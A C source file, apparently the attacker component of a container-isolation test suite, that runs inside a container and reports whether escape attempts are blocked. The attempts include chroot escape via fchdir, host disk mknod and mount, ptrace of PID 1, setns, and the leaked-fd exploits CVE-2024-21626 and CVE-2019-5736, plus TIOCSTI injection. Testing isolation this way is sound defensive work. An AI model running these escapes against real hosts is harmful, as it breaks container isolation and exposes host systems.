@@ -1,0 +1,577 @@
+/* nsattack: the attacker of the escape suite. It runs INSIDE a container and tries one way
+ * out per mode. Every attempt prints one line:
+ *   BLOCKED <what>: <why>        the way out is closed
+ *   ESCAPED <what>: <detail>     the way out is open (the test fails on it)
+ *   INFO <what>                  context for the reader
+ * Exit status: 0 when nothing escaped, 1 when something did, 2 on a usage error.
+ * Built with `gcc -static` at test time, so it runs in any root (busybox or empty). */
+#define _GNU_SOURCE
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <sched.h>
+#include <signal.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/ioctl.h>
+#include <sys/ipc.h>
+#include <sys/mount.h>
+#include <sys/msg.h>
+#include <sys/ptrace.h>
+#include <sys/sem.h>
+#include <sys/shm.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <sys/sysmacros.h>
+#include <sys/types.h>
+#include <sys/un.h>
+#include <sys/wait.h>
+#include <netinet/in.h>
+#include <arpa/inet.h>
+#include <termios.h>
+#include <time.h>
+#include <unistd.h>
+
+static int escaped;
+
+static void blocked(const char *what, const char *why) { printf("BLOCKED %s: %s\n", what, why); }
+static void blocked_errno(const char *what) { printf("BLOCKED %s: %s\n", what, strerror(errno)); }
+static void escape(const char *what, const char *detail) {
+    printf("ESCAPED %s: %s\n", what, detail);
+    escaped = 1;
+}
+
+static long now_ms(void) {
+    struct timespec ts;
+    clock_gettime(CLOCK_MONOTONIC, &ts);
+    return ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
+}
+
+/* read PATH...: each path must be unreadable (it names a host-only file). */
+static void do_read(int argc, char **argv) {
+    for (int i = 0; i < argc; i++) {
+        char buf[256];
+        int fd = open(argv[i], O_RDONLY | O_CLOEXEC);
+        if (fd < 0) { blocked_errno(argv[i]); continue; }
+        ssize_t n = read(fd, buf, sizeof buf - 1);
+        close(fd);
+        if (n < 0) { blocked_errno(argv[i]); continue; }
+        buf[n] = 0;
+        escape(argv[i], buf);
+    }
+}
+
+/* chroot MARKER: the classic fchdir escape out of a nested chroot, then look for MARKER
+ * (an absolute host path) and for a root other than the container's. */
+static void do_chroot(const char *marker) {
+    struct stat root_before, root_after;
+    stat("/", &root_before);
+    int dirs[] = {0};
+    (void)dirs;
+    const char *bases[] = {"/tmp", "/dev/shm", "/"};
+    int out = -1;
+    char jail[256] = "";
+    for (unsigned i = 0; i < sizeof bases / sizeof *bases; i++) {
+        snprintf(jail, sizeof jail, "%s/nsattack-jail-%d", strcmp(bases[i], "/") ? bases[i] : "", getpid());
+        if (mkdir(jail, 0700) == 0 || errno == EEXIST) break;
+        jail[0] = 0;
+    }
+    if (!jail[0]) { blocked_errno("chroot escape (no writable dir for a jail)"); return; }
+    out = open(".", O_RDONLY | O_DIRECTORY);
+    if (chroot(jail) != 0) { blocked_errno("chroot escape: chroot(jail)"); rmdir(jail); return; }
+    if (fchdir(out) != 0) { blocked_errno("chroot escape: fchdir"); return; }
+    for (int i = 0; i < 256; i++) chdir("..");
+    if (chroot(".") != 0) { blocked_errno("chroot escape: chroot(.)"); return; }
+    stat("/", &root_after);
+    int fd = open(marker, O_RDONLY);
+    if (fd >= 0) { close(fd); escape("chroot escape with fchdir", "the host marker is readable"); }
+    else if (root_after.st_dev != root_before.st_dev || root_after.st_ino != root_before.st_ino)
+        escape("chroot escape with fchdir", "reached a root above the container's");
+    else blocked("chroot escape with fchdir", "'..' stops at the container's root (pivot_root)");
+    rmdir(jail);
+}
+
+/* mknod MAJ MIN: make the host disk's block node, read it, mount it. */
+static void do_mknod(unsigned maj, unsigned min) {
+    const char *dirs[] = {"/tmp", "/dev", "/dev/shm", "/"};
+    char node[256];
+    int made = 0;
+    for (unsigned i = 0; i < sizeof dirs / sizeof *dirs; i++) {
+        snprintf(node, sizeof node, "%s/nsattack-disk-%d", strcmp(dirs[i], "/") ? dirs[i] : "", getpid());
+        char what[300];
+        snprintf(what, sizeof what, "mknod %s b %u:%u", node, maj, min);
+        if (mknod(node, S_IFBLK | 0600, makedev(maj, min)) != 0) { blocked_errno(what); continue; }
+        made = 1;
+        printf("INFO %s succeeded\n", what);
+        int fd = open(node, O_RDONLY | O_CLOEXEC);
+        if (fd < 0) {
+            snprintf(what, sizeof what, "open the host disk through %s", node);
+            blocked_errno(what);
+        } else {
+            char buf[512];
+            ssize_t n = read(fd, buf, sizeof buf);
+            snprintf(what, sizeof what, "read the host disk through %s", node);
+            if (n > 0) escape(what, "raw blocks of the host's disk are readable");
+            else blocked_errno(what);
+            close(fd);
+        }
+        mkdir("/tmp/nsattack-mnt", 0700);
+        snprintf(what, sizeof what, "mount the host disk through %s", node);
+        const char *types[] = {"ext4", "xfs", "btrfs"};
+        int mounted = 0;
+        for (unsigned t = 0; t < 3 && !mounted; t++)
+            if (mount(node, "/tmp/nsattack-mnt", types[t], MS_RDONLY, NULL) == 0) mounted = 1;
+        if (mounted) { escape(what, "the host's file system is mounted"); umount2("/tmp/nsattack-mnt", MNT_DETACH); }
+        else blocked_errno(what);
+        rmdir("/tmp/nsattack-mnt");
+        unlink(node);
+    }
+    if (!made) printf("INFO no block node could be made\n");
+}
+
+/* sysctl: core_pattern and sysrq-trigger must not be writable. Nothing harmful is written:
+ * core_pattern gets its own value back, sysrq-trigger is only opened. */
+static void do_sysctl(void) {
+    char cur[512] = "";
+    int fd = open("/proc/sys/kernel/core_pattern", O_RDONLY);
+    if (fd >= 0) { ssize_t n = read(fd, cur, sizeof cur - 1); cur[n > 0 ? n : 0] = 0; close(fd); }
+    fd = open("/proc/sys/kernel/core_pattern", O_WRONLY);
+    if (fd < 0) blocked_errno("write /proc/sys/kernel/core_pattern");
+    else {
+        if (write(fd, cur, strlen(cur)) >= 0) escape("write /proc/sys/kernel/core_pattern", "written (its own value)");
+        else blocked_errno("write /proc/sys/kernel/core_pattern");
+        close(fd);
+    }
+    fd = open("/proc/sysrq-trigger", O_WRONLY);
+    if (fd < 0) blocked_errno("write /proc/sysrq-trigger");
+    else { close(fd); escape("write /proc/sysrq-trigger", "opened for writing"); }
+}
+
+static int read_file(const char *path, char *buf, size_t len) {
+    int fd = open(path, O_RDONLY | O_CLOEXEC);
+    if (fd < 0) return -1;
+    ssize_t n = read(fd, buf, len - 1);
+    close(fd);
+    if (n < 0) return -1;
+    for (ssize_t i = 0; i < n; i++) if (buf[i] == 0) buf[i] = ' ';
+    buf[n] = 0;
+    return (int)n;
+}
+
+static const char *tools[] = {"pidns", "mntns", "netns", "userns", "utsns", "ipcns", "nsps", NULL};
+
+static int is_tool(const char *cmdline) {
+    const char *first = cmdline;
+    const char *end = strchr(first, ' ');
+    size_t len = end ? (size_t)(end - first) : strlen(first);
+    const char *base = first;
+    for (const char *p = first; p < first + len; p++) if (*p == '/') base = p + 1;
+    size_t blen = (size_t)(first + len - base);
+    for (int i = 0; tools[i]; i++) if (strlen(tools[i]) == blen && !strncmp(base, tools[i], blen)) return 1;
+    return 0;
+}
+
+/* procs MARKER: no host process (MARKER in its cmdline) and no link of the chain (the pidns
+ * monitor) may be visible; PID 1 (the init) may be seen but neither traced nor entered. */
+static void do_procs(const char *reversed) {
+    char marker[256];
+    size_t ml = strlen(reversed);
+    if (ml >= sizeof marker) ml = sizeof marker - 1;
+    for (size_t i = 0; i < ml; i++) marker[i] = reversed[ml - 1 - i];
+    marker[ml] = 0;
+    DIR *d = opendir("/proc");
+    if (!d) { blocked_errno("open /proc"); return; }
+    struct dirent *e;
+    int seen_host = 0, seen_tool = 0, count = 0;
+    while ((e = readdir(d))) {
+        int pid = atoi(e->d_name);
+        if (pid <= 0) continue;
+        count++;
+        char path[64], cmd[4096];
+        snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
+        if (read_file(path, cmd, sizeof cmd) < 0) continue;
+        if (strstr(cmd, marker)) {
+            char what[128];
+            snprintf(what, sizeof what, "see a host process (pid %d here)", pid);
+            escape(what, cmd);
+            seen_host = 1;
+            if (kill(pid, 0) == 0) escape("signal a host process", cmd);
+        }
+        if (pid != 1 && is_tool(cmd)) {
+            char what[128];
+            snprintf(what, sizeof what, "see a link of the chain (pid %d here)", pid);
+            escape(what, cmd);
+            seen_tool = 1;
+        }
+    }
+    closedir(d);
+    printf("INFO %d processes visible\n", count);
+    if (!seen_host) blocked("see or signal a host process", "not in this pid namespace");
+    if (!seen_tool) blocked("see the pidns monitor", "not in this pid namespace");
+    /* The init (PID 1) of pidns. */
+    if (ptrace(PTRACE_ATTACH, 1, 0, 0) == 0) {
+        waitpid(1, NULL, __WALL);
+        ptrace(PTRACE_DETACH, 1, 0, 0);
+        escape("ptrace the init (PID 1)", "attached");
+    } else blocked_errno("ptrace the init (PID 1)");
+    const char *links[] = {"/proc/1/root/.", "/proc/1/cwd/.", "/proc/1/exe", "/proc/1/environ", "/proc/1/fd/0", "/proc/1/ns/mnt", "/proc/1/mem", NULL};
+    for (int i = 0; links[i]; i++) {
+        char what[128];
+        snprintf(what, sizeof what, "open %s of the init", links[i]);
+        int fd = open(links[i], O_RDONLY | O_CLOEXEC);
+        if (fd < 0) blocked_errno(what);
+        else { close(fd); escape(what, "opened"); }
+    }
+    /* SIGKILL from inside is ignored by the kernel for the namespace's init: check it lives. */
+    kill(1, SIGKILL);
+    usleep(100000);
+    if (kill(1, 0) == 0) blocked("kill the init (PID 1)", "SIGKILL from inside is ignored");
+    else escape("kill the init (PID 1)", "it is gone");
+}
+
+static int ns_inode(const char *path, ino_t *ino) {
+    struct stat st;
+    if (stat(path, &st) != 0) return -1;
+    *ino = st.st_ino;
+    return 0;
+}
+
+static void try_setns_fd(int fd, const char *origin) {
+    struct stat st;
+    if (fstat(fd, &st) != 0) return;
+    const char *types[] = {"mnt", "pid", "net", "ipc", "uts", "user", "cgroup", "time", NULL};
+    for (int i = 0; types[i]; i++) {
+        char own[64];
+        ino_t ino;
+        snprintf(own, sizeof own, "/proc/self/ns/%s", types[i]);
+        if (ns_inode(own, &ino) == 0 && ino == st.st_ino) return; /* our own namespace */
+    }
+    char what[512];
+    snprintf(what, sizeof what, "setns through %s", origin);
+    if (setns(fd, 0) == 0) escape(what, "entered another namespace");
+    else if (errno != EINVAL) blocked_errno(what);
+    else blocked(what, "not a namespace");
+}
+
+/* setns: every /proc/PID/ns/TYPE and every inherited fd. */
+static void do_setns(void) {
+    DIR *d = opendir("/proc");
+    int tried = 0;
+    struct dirent *e;
+    while (d && (e = readdir(d))) {
+        int pid = atoi(e->d_name);
+        if (pid <= 0 || pid == getpid()) continue;
+        const char *types[] = {"mnt", "pid", "net", "ipc", "uts", "user", "cgroup", "time", "pid_for_children", "time_for_children", NULL};
+        for (int i = 0; types[i]; i++) {
+            char path[128];
+            snprintf(path, sizeof path, "/proc/%d/ns/%s", pid, types[i]);
+            int fd = open(path, O_RDONLY | O_CLOEXEC);
+            if (fd < 0) {
+                if (errno != ENOENT) { char w[200]; snprintf(w, sizeof w, "open %s", path); blocked_errno(w); }
+                continue;
+            }
+            tried++;
+            try_setns_fd(fd, path);
+            close(fd);
+        }
+    }
+    if (d) closedir(d);
+    for (int fd = 3; fd < 1024; fd++) {
+        char link[64], target[512];
+        snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
+        ssize_t n = readlink(link, target, sizeof target - 1);
+        if (n < 0) continue;
+        target[n] = 0;
+        char origin[600];
+        snprintf(origin, sizeof origin, "inherited fd %d (%s)", fd, target);
+        tried++;
+        try_setns_fd(fd, origin);
+    }
+    printf("INFO %d namespace handles tried\n", tried);
+    blocked("setns", "done");
+}
+
+/* Where does the directory of fd lead when walked up with '..'? Returns 1 if its top is not
+ * the root we see. */
+static int outside_root(int dirfd) {
+    struct stat root, cur, up;
+    if (stat("/", &root) != 0) return 0;
+    int fd = dup(dirfd);
+    for (int i = 0; i < 4096; i++) {
+        if (fstat(fd, &cur) != 0) break;
+        int parent = openat(fd, "..", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
+        if (parent < 0) break;
+        fstat(parent, &up);
+        close(fd);
+        fd = parent;
+        if (up.st_dev == cur.st_dev && up.st_ino == cur.st_ino) break;
+    }
+    fstat(fd, &cur);
+    close(fd);
+    return cur.st_dev != root.st_dev || cur.st_ino != root.st_ino;
+}
+
+/* fds: no fd but 0-2 may be open, no directory fd may lead outside, the cwd must be inside. */
+static void do_fds(void) {
+    int fd_here = open(".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
+    char cwd[4096];
+    if (!getcwd(cwd, sizeof cwd)) snprintf(cwd, sizeof cwd, "(unreachable: %s)", strerror(errno));
+    printf("INFO cwd %s\n", cwd);
+    if (fd_here >= 0 && outside_root(fd_here)) escape("working directory (CVE-2024-21626)", cwd);
+    else blocked("working directory outside the root (CVE-2024-21626)", "the cwd is inside the root");
+    int leaked = 0;
+    for (int fd = 3; fd < 4096; fd++) {
+        if (fd == fd_here) continue;
+        char link[64], target[512];
+        snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
+        ssize_t n = readlink(link, target, sizeof target - 1);
+        if (n < 0) continue;
+        target[n] = 0;
+        char what[700];
+        snprintf(what, sizeof what, "inherited fd %d -> %s (CVE-2024-21626)", fd, target);
+        leaked = 1;
+        struct stat st;
+        if (fstat(fd, &st) == 0 && S_ISDIR(st.st_mode) && outside_root(fd)) escape(what, "a directory outside the root");
+        else escape(what, "a file descriptor left open by a link");
+        /* The runc exploit: chdir through /proc/self/fd/N. */
+        if (S_ISDIR(st.st_mode) && chdir(link) == 0) {
+            int here = open(".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
+            if (here >= 0 && outside_root(here)) escape("chdir /proc/self/fd/N (CVE-2024-21626)", target);
+            if (here >= 0) close(here);
+            if (fd_here >= 0) fchdir(fd_here);
+        }
+    }
+    if (!leaked) blocked("inherited file descriptors (CVE-2024-21626)", "only 0, 1, 2 are open");
+    /* Also the ones a process could reach through PID 1. */
+    for (int fd = 0; fd < 64; fd++) {
+        char link[64];
+        snprintf(link, sizeof link, "/proc/1/fd/%d", fd);
+        int h = open(link, O_RDONLY | O_CLOEXEC);
+        if (h >= 0) {
+            char what[100];
+            snprintf(what, sizeof what, "open %s (CVE-2024-21626)", link);
+            if (outside_root(h)) escape(what, "leads outside the root");
+            close(h);
+        }
+    }
+}
+
+/* exe-watch MS DEV:INO...: for MS milliseconds, watch every new process; while it runs one
+ * of the host binaries given, try to turn its /proc/PID/exe into a writable handle
+ * (CVE-2019-5736: O_PATH while it runs, O_WRONLY through /proc/self/fd once nothing runs
+ * it any more). Nothing is ever written. */
+static int ours(int fd, int n, unsigned long long *devs, unsigned long long *inos) {
+    struct stat st;
+    if (fstat(fd, &st) != 0) return 0;
+    for (int i = 0; i < n; i++)
+        if (devs[i] == (unsigned long long)st.st_dev && inos[i] == (unsigned long long)st.st_ino) return 1;
+    return 0;
+}
+
+static void do_exe_watch(int ms, int argc, char **argv) {
+    unsigned long long devs[64], inos[64];
+    int n = 0;
+    for (int i = 0; i < argc && n < 64; i++)
+        if (sscanf(argv[i], "%llu:%llu", &devs[n], &inos[n]) == 2) n++;
+    static char seen[1 << 22];
+    long end = now_ms() + ms;
+    int handles = 0, scans = 0, tools_seen = 0, denied = 0;
+    int held[64], nheld = 0;
+    char held_name[64][256];
+    while (now_ms() < end) {
+        scans++;
+        DIR *d = opendir("/proc");
+        struct dirent *e;
+        while (d && (e = readdir(d))) {
+            int pid = atoi(e->d_name);
+            if (pid <= 0 || pid == getpid() || pid >= (1 << 22) || seen[pid]) continue;
+            seen[pid] = 1;
+            char path[64], comm[64] = "";
+            snprintf(path, sizeof path, "/proc/%d/comm", pid);
+            read_file(path, comm, sizeof comm);
+            char *nl = strchr(comm, '\n');
+            if (nl) *nl = 0;
+            int is = 0;
+            for (int i = 0; tools[i]; i++) if (!strcmp(comm, tools[i])) is = 1;
+            snprintf(path, sizeof path, "/proc/%d/exe", pid);
+            /* Spin on the process while it is one of ours: the window between the drop of
+             * its capabilities and its exec is short. */
+            long until = now_ms() + (is ? 300 : 0);
+            if (is) tools_seen++;
+            do {
+                int fd = open(path, O_PATH | O_CLOEXEC);
+                if (fd < 0) {
+                    if (errno == ENOENT || errno == ESRCH) break;
+                    if (errno == EACCES || errno == EPERM) { denied++; continue; }
+                    break;
+                }
+                if (ours(fd, n, devs, inos) && nheld < 64) {
+                    handles++;
+                    char fdpath[64];
+                    snprintf(fdpath, sizeof fdpath, "/proc/self/fd/%d", fd);
+                    ssize_t l = readlink(fdpath, held_name[nheld], 255);
+                    held_name[nheld][l > 0 ? l : 0] = 0;
+                    printf("INFO an O_PATH handle to a host binary of the chain: pid %d (%s) exe %s\n", pid, comm, held_name[nheld]);
+                    held[nheld++] = fd;
+                } else close(fd);
+                break;
+            } while (now_ms() < until);
+        }
+        if (d) closedir(d);
+    }
+    printf("INFO %d scans, %d links of the chain seen, %d denied opens, %d handles\n", scans, tools_seen, denied, handles);
+    for (int i = 0; i < nheld; i++) {
+        char self[64], what[600];
+        snprintf(self, sizeof self, "/proc/self/fd/%d", held[i]);
+        long until = now_ms() + 3000;
+        int w = -1;
+        while (now_ms() < until && (w = open(self, O_WRONLY | O_CLOEXEC)) < 0 && errno == ETXTBSY) usleep(1000);
+        snprintf(what, sizeof what, "a writable handle to the host binary %s (CVE-2019-5736)", held_name[i]);
+        if (w >= 0) { escape(what, "reopened O_WRONLY through /proc/self/fd (nothing written)"); close(w); }
+        else blocked_errno(what);
+        close(held[i]);
+    }
+    if (!escaped) blocked("writable handle to a host binary (CVE-2019-5736)", "none obtained");
+}
+
+/* net TCPPORT ABSTRACT: the host's 127.0.0.1:PORT and abstract socket @ABSTRACT. */
+static void do_net(int port, const char *abstract) {
+    int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+    struct sockaddr_in in = {.sin_family = AF_INET, .sin_port = htons(port)};
+    in.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+    if (s >= 0 && connect(s, (struct sockaddr *)&in, sizeof in) == 0) {
+        char buf[64] = "";
+        ssize_t n = read(s, buf, sizeof buf - 1);
+        buf[n > 0 ? n : 0] = 0;
+        escape("reach a host service on 127.0.0.1", buf);
+    } else blocked_errno("reach a host service on 127.0.0.1");
+    if (s >= 0) close(s);
+    s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
+    struct sockaddr_un un = {.sun_family = AF_UNIX};
+    size_t len = strlen(abstract);
+    memcpy(un.sun_path + 1, abstract, len);
+    if (s >= 0 && connect(s, (struct sockaddr *)&un, offsetof(struct sockaddr_un, sun_path) + 1 + len) == 0)
+        escape("reach a host abstract unix socket", abstract);
+    else blocked_errno("reach a host abstract unix socket");
+    if (s >= 0) close(s);
+}
+
+/* serve PORT ABSTRACT: the host side of `net` (run on the host, in the test's namespace). */
+static void do_serve(int port, const char *abstract) {
+    int s = socket(AF_INET, SOCK_STREAM, 0);
+    int one = 1;
+    setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
+    struct sockaddr_in in = {.sin_family = AF_INET, .sin_port = htons(port)};
+    in.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+    if (bind(s, (struct sockaddr *)&in, sizeof in) || listen(s, 16)) { perror("tcp"); exit(2); }
+    int u = socket(AF_UNIX, SOCK_STREAM, 0);
+    struct sockaddr_un un = {.sun_family = AF_UNIX};
+    size_t len = strlen(abstract);
+    memcpy(un.sun_path + 1, abstract, len);
+    if (bind(u, (struct sockaddr *)&un, offsetof(struct sockaddr_un, sun_path) + 1 + len) || listen(u, 16)) { perror("unix"); exit(2); }
+    printf("ready\n");
+    fflush(stdout);
+    for (;;) {
+        fd_set set;
+        FD_ZERO(&set);
+        FD_SET(s, &set);
+        FD_SET(u, &set);
+        if (select((s > u ? s : u) + 1, &set, NULL, NULL, NULL) < 0) continue;
+        int c = FD_ISSET(s, &set) ? accept(s, NULL, NULL) : accept(u, NULL, NULL);
+        if (c >= 0) { write(c, "host-service\n", 13); close(c); }
+    }
+}
+
+/* sysv KEY: the host's SysV objects with KEY must not be found. */
+static void do_sysv(key_t key) {
+    if (shmget(key, 0, 0) >= 0) escape("see host SysV shared memory", "found"); else blocked_errno("see host SysV shared memory");
+    if (msgget(key, 0) >= 0) escape("see a host SysV message queue", "found"); else blocked_errno("see a host SysV message queue");
+    if (semget(key, 0, 0) >= 0) escape("see a host SysV semaphore", "found"); else blocked_errno("see a host SysV semaphore");
+}
+
+/* tiocsti: push a command into every terminal reachable (CVE-2017-5226). */
+static void do_tiocsti(const char *text) {
+    int fds[8], n = 0;
+    for (int fd = 0; fd < 3; fd++) fds[n++] = fd;
+    int tty = open("/dev/tty", O_RDWR | O_CLOEXEC);
+    if (tty >= 0) fds[n++] = tty; else { printf("INFO /dev/tty: %s\n", strerror(errno)); }
+    int pushed = 0;
+    for (int i = 0; i < n; i++) {
+        if (!isatty(fds[i])) continue;
+        int ok = 1;
+        for (const char *c = text; *c; c++)
+            if (ioctl(fds[i], TIOCSTI, c) != 0) { ok = 0; break; }
+        char what[64];
+        snprintf(what, sizeof what, "TIOCSTI on fd %d (CVE-2017-5226)", fds[i]);
+        if (ok) { escape(what, "keystrokes pushed into the terminal"); pushed = 1; }
+        else blocked_errno(what);
+    }
+    if (!pushed) blocked("TIOCSTI (CVE-2017-5226)", "no terminal accepted keystrokes");
+}
+
+/* devnull: /dev/null and the masked paths must be the real null device (CVE-2025-31133). */
+static void do_devnull(void) {
+    const char *paths[] = {"/dev/null", "/proc/kcore", "/proc/keys", "/proc/timer_list", "/proc/sched_debug", "/proc/latency_stats", NULL};
+    for (int i = 0; paths[i]; i++) {
+        struct stat st;
+        char what[128];
+        snprintf(what, sizeof what, "%s is the null device (CVE-2025-31133)", paths[i]);
+        if (lstat(paths[i], &st) != 0) { printf("INFO %s: %s\n", paths[i], strerror(errno)); continue; }
+        if (S_ISCHR(st.st_mode) && major(st.st_rdev) == 1 && minor(st.st_rdev) == 3) blocked(what, "char 1:3");
+        else if (S_ISREG(st.st_mode) && st.st_size == 0 && i > 0) {
+            int fd = open(paths[i], O_WRONLY);
+            if (fd >= 0) { close(fd); escape(what, "a writable regular file"); } else blocked(what, "an empty read-only file");
+        } else {
+            char detail[128];
+            snprintf(detail, sizeof detail, "mode %o rdev %u:%u", st.st_mode, major(st.st_rdev), minor(st.st_rdev));
+            escape(what, detail);
+        }
+    }
+    char cur[512] = "";
+    int fd = open("/proc/sys/kernel/core_pattern", O_RDONLY);
+    if (fd >= 0) { ssize_t n = read(fd, cur, sizeof cur - 1); cur[n > 0 ? n : 0] = 0; close(fd); }
+    fd = open("/dev/null", O_WRONLY);
+    if (fd >= 0) {
+        struct stat st;
+        fstat(fd, &st);
+        if (!(S_ISCHR(st.st_mode) && major(st.st_rdev) == 1 && minor(st.st_rdev) == 3)) escape("write through /dev/null (CVE-2025-31133)", "it is not the null device");
+        close(fd);
+    }
+}
+
+static void do_mksysv(key_t key) {
+    if (shmget(key, 4096, IPC_CREAT | 0600) < 0) perror("shmget");
+    if (msgget(key, IPC_CREAT | 0600) < 0) perror("msgget");
+    if (semget(key, 1, IPC_CREAT | 0600) < 0) perror("semget");
+}
+
+static void do_sethostname(const char *name) {
+    if (sethostname(name, strlen(name)) == 0) printf("INFO hostname set to %s in this UTS namespace\n", name);
+    else blocked_errno("sethostname");
+}
+
+int main(int argc, char **argv) {
+    setvbuf(stdout, NULL, _IOLBF, 0);
+    if (argc < 2) { fprintf(stderr, "usage: nsattack MODE ARGS\n"); return 2; }
+    const char *m = argv[1];
+    if (!strcmp(m, "read")) do_read(argc - 2, argv + 2);
+    else if (!strcmp(m, "chroot") && argc == 3) do_chroot(argv[2]);
+    else if (!strcmp(m, "mknod") && argc == 4) do_mknod(atoi(argv[2]), atoi(argv[3]));
+    else if (!strcmp(m, "sysctl")) do_sysctl();
+    else if (!strcmp(m, "procs") && argc == 3) do_procs(argv[2]);
+    else if (!strcmp(m, "setns")) do_setns();
+    else if (!strcmp(m, "fds")) do_fds();
+    else if (!strcmp(m, "exe-watch") && argc >= 3) do_exe_watch(atoi(argv[2]), argc - 3, argv + 3);
+    else if (!strcmp(m, "net") && argc == 4) do_net(atoi(argv[2]), argv[3]);
+    else if (!strcmp(m, "serve") && argc == 4) do_serve(atoi(argv[2]), argv[3]);
+    else if (!strcmp(m, "sysv") && argc == 3) do_sysv((key_t)strtol(argv[2], NULL, 0));
+    else if (!strcmp(m, "tiocsti") && argc == 3) do_tiocsti(argv[2]);
+    else if (!strcmp(m, "devnull")) do_devnull();
+    else if (!strcmp(m, "mksysv") && argc == 3) do_mksysv((key_t)strtol(argv[2], NULL, 0));
+    else if (!strcmp(m, "sethostname") && argc == 3) do_sethostname(argv[2]);
+    else if (!strcmp(m, "sleep") && argc >= 3) { usleep(atoi(argv[2]) * 1000); }
+    else { fprintf(stderr, "nsattack: unknown mode %s\n", m); return 2; }
+    fflush(stdout);
+    return escaped ? 1 : 0;
+}
